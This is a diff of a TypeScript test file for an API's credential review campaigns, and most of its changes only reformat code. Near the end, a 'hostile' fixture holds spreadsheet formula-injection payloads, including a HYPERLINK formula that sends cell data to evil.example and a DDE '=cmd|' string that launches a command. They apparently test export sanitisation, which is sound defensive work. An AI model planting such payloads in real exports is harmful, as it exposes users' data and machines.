@@ -1,4 +1,5 @@
 import { parse } from 'csv-parse/sync';
+
 import { Fixtures } from '../support/fixtures';
 import { startTestApp, TestApp } from '../support/test-app';
 import { DAY, ReviewHelpers } from './review-helpers';
@@ -39,11 +40,17 @@ describe('review campaigns', () => {
     cred.prodWrite = (await f.credential(agentA.id, [`${p}:read`, `${p}:write`])).credential;
     // Sandbox, allowlisted, a very high rate limit, last used 40 days ago, rotation overdue.
     cred.sandboxBusy = (
-      await f.credential(agentA.id, [`${p}:read`], { environment: 'sandbox', ipAllowlist: ['10.0.0.0/8'], rateLimit: { requests: 100000, perSeconds: 1 } })
+      await f.credential(agentA.id, [`${p}:read`], {
+        environment: 'sandbox',
+        ipAllowlist: ['10.0.0.0/8'],
+        rateLimit: { requests: 100000, perSeconds: 1 },
+      })
     ).credential;
     await h.setCredentialColumns(cred.sandboxBusy.id, { lastUsedAt: new Date(now - 40 * DAY), nextRotationAt: new Date(now - DAY) });
     // Delete and admin scopes, approved by a second admin; used an hour ago.
-    cred.privileged = await h.privilegedCredential(agentA.id, [`${p}:read`, `${p}:delete`, `${p}:admin`], { ipAllowlist: ['192.0.2.0/24'] });
+    cred.privileged = await h.privilegedCredential(agentA.id, [`${p}:read`, `${p}:delete`, `${p}:admin`], {
+      ipAllowlist: ['192.0.2.0/24'],
+    });
     await h.setCredentialColumns(cred.privileged.id, { lastUsedAt: new Date(now - 3600_000) });
     // Not active: awaiting approval, and revoked.
     cred.pending = (await f.credential(agentA.id, [`${p}:delete`])).credential;
@@ -75,7 +82,14 @@ describe('review campaigns', () => {
 
     it('answers 201 with the campaign open, one item per active credential, due in 14 days by default', async () => {
       const [{ n }] = await t.dataSource.query(`SELECT count(*)::int AS n FROM credentials WHERE status = 'active'`);
-      expect(campaign).toMatchObject({ status: 'open', itemCount: n, onExpiry: 'keep', name: 'Q1 review', environment: null, ownerIds: null });
+      expect(campaign).toMatchObject({
+        status: 'open',
+        itemCount: n,
+        onExpiry: 'keep',
+        name: 'Q1 review',
+        environment: null,
+        ownerIds: null,
+      });
       expect(new Date(campaign.dueAt).getTime() - new Date(campaign.openedAt).getTime()).toBe(14 * DAY);
       expect(new Date(campaign.openedAt).getTime()).toBe(t.clock.now().getTime());
       expect(items).toHaveLength(n);
@@ -141,9 +155,20 @@ describe('review campaigns', () => {
     it('reports progress per owner', async () => {
       const r = await t.http.get(`/v1/campaigns/${campaign.id}`, f.admin);
       expect(r.status).toBe(200);
-      expect(r.body).toMatchObject({ id: campaign.id, status: 'open', itemCount: items.length, decidedCount: 0, pendingCount: items.length });
+      expect(r.body).toMatchObject({
+        id: campaign.id,
+        status: 'open',
+        itemCount: items.length,
+        decidedCount: 0,
+        pendingCount: items.length,
+      });
       const a = r.body.owners.find((o: any) => o.ownerId === ownerA.id);
-      expect(a).toMatchObject({ total: items.filter((i) => i.ownerId === ownerA.id).length, decided: 0, pending: a.total, signedOffAt: null });
+      expect(a).toMatchObject({
+        total: items.filter((i) => i.ownerId === ownerA.id).length,
+        decided: 0,
+        pending: a.total,
+        signedOffAt: null,
+      });
       // An owner sees only its own entry.
       const mine = await t.http.get(`/v1/campaigns/${campaign.id}`, tokenB);
       expect(mine.status).toBe(200);
@@ -163,13 +188,23 @@ describe('review campaigns', () => {
       expect(page.body.nextCursor).toEqual(expect.any(String));
     });
 
-    it("shows an owner its pending items in /v1/reviews/mine with what it needs to decide", async () => {
+    it('shows an owner its pending items in /v1/reviews/mine with what it needs to decide', async () => {
       const r = await t.http.get('/v1/reviews/mine?limit=500', tokenA);
       expect(r.status).toBe(200);
       const mine = r.body.items.filter((i: any) => i.campaignId === campaign.id);
-      expect(mine.map((i: any) => i.credentialId).sort()).toEqual(items.filter((i) => i.ownerId === ownerA.id).map((i) => i.credentialId).sort());
+      expect(mine.map((i: any) => i.credentialId).sort()).toEqual(
+        items
+          .filter((i) => i.ownerId === ownerA.id)
+          .map((i) => i.credentialId)
+          .sort(),
+      );
       const busy = mine.find((i: any) => i.credentialId === cred.sandboxBusy.id);
-      expect(busy).toMatchObject({ campaignName: 'Q1 review', dueAt: campaign.dueAt, status: 'pending', riskFlags: expect.arrayContaining(['unused_30d']) });
+      expect(busy).toMatchObject({
+        campaignName: 'Q1 review',
+        dueAt: campaign.dueAt,
+        status: 'pending',
+        riskFlags: expect.arrayContaining(['unused_30d']),
+      });
       expect(busy.snapshot).toHaveProperty('lastUsedAt');
       expect(busy.snapshot).toHaveProperty('lastRotatedAt');
       expect(r.body.items.every((i: any) => i.ownerId === ownerA.id)).toBe(true);
@@ -178,7 +213,13 @@ describe('review campaigns', () => {
   });
 
   it('narrows the scope to an environment and to owners', async () => {
-    const campaign = await h.open({ name: 'sandbox of A', environment: 'sandbox', ownerIds: [ownerA.id], dueInDays: 3, onExpiry: 'revoke' });
+    const campaign = await h.open({
+      name: 'sandbox of A',
+      environment: 'sandbox',
+      ownerIds: [ownerA.id],
+      dueInDays: 3,
+      onExpiry: 'revoke',
+    });
     expect(campaign).toMatchObject({ environment: 'sandbox', ownerIds: [ownerA.id], onExpiry: 'revoke' });
     expect(new Date(campaign.dueAt).getTime() - new Date(campaign.openedAt).getTime()).toBe(3 * DAY);
     const items = await h.items(campaign.id);
@@ -238,7 +279,7 @@ describe('review campaigns', () => {
     let campaign: any;
     const hostile = {
       agentName: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
-      comments: ['+SUM(1,2)', '-2+3', '@cmd', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'],
+      comments: ['+SUM(1,2)', '-2+3', '@cmd', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"],
     };
 
     beforeAll(async () => {
